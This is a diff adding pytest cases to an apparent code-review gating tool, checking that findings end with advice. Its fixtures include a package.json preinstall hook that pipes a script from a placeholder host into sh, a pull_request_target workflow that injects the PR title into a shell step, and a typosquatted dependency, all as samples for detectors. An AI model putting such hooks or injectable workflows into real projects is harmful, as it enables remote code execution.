@@ -15,10 +15,18 @@ from codeflow_action.engine.ports import Absent
 from codeflow_action.engine.pull_request import ChangedFile, FileKind, FileStatus, Gap
 from codeflow_action.engine.scans import ScannerFailed
 from codeflow_action.integrations.scanners import BundledScanners
-from tests.actions.gating import NoSecrets, check, task_of
+from tests.actions.gating import NoSecrets, check, only, task_of
 from tests.review.changes import changed, numbered
 
 EMPTY = "x = 1\n"
+PREINSTALL = '{"scripts": {"preinstall": "curl https://a.example/x.sh | sh"}}\n'
+GREET = """on: pull_request_target
+jobs:
+  greet:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo "${{ github.event.pull_request.title }}"
+"""
 
 
 def run(files, heads=None, scanners=None, options=None, **fields):
@@ -67,6 +75,28 @@ def test_the_level_caps(kingfisher):
     found = check("prod.env", lines, scanners=kingfisher, secrets="notice")
     assert {one.severity for one in found} == {Severity.NOTICE}
     assert check("prod.env", lines, scanners=kingfisher, secrets="off") == ()
+
+
+@pytest.mark.parametrize(
+    ("gate", "path", "text", "advice"),
+    [
+        ("conflict_markers", "a.py", "<<<<<<< ours\n", "Resolve the conflict and remove"),
+        ("debug_leftovers", "a.js", "debugger;\n", "Remove it before merging."),
+        ("debug_leftovers", "a.js", "debugger;\n" * 30, "Fix these first, then look"),
+        ("hidden_unicode", "a.py", "x = 1  # \u202e\n", "Remove the characters, or write"),
+        ("file_hygiene", ".env", "KEY=1\n", "Commit an `.env.example` without"),
+        ("suppressions", "a.py", "import os  # noqa\n", "Fix the cause, or say in a"),
+        ("dependencies", "requirements.txt", "reqeusts==2.0\n", "Check the name. If it is"),
+        ("dependencies", "package.json", PREINSTALL, "Check what it does."),
+        ("runs_by_itself", "package.json", PREINSTALL, "Nobody is asked before it does."),
+        ("workflow_risk", ".github/workflows/greet.yml", GREET, "Pass it in through `env:`"),
+        ("broken_files", "a.json", "{", ""),  # the parser's error is what one acts on
+    ],
+)
+def test_a_message_ends_with_what_to_do(gate, path, text, advice):
+    finding = check(path, text, **only(gate, level="error"))[-1]
+    assert finding.advice.startswith(advice)
+    assert finding.message.endswith(f". {finding.advice}" if advice else "that parsed.")
 
 
 @pytest.mark.parametrize("gate", QualityGates().gates, ids=lambda gate: gate.name)
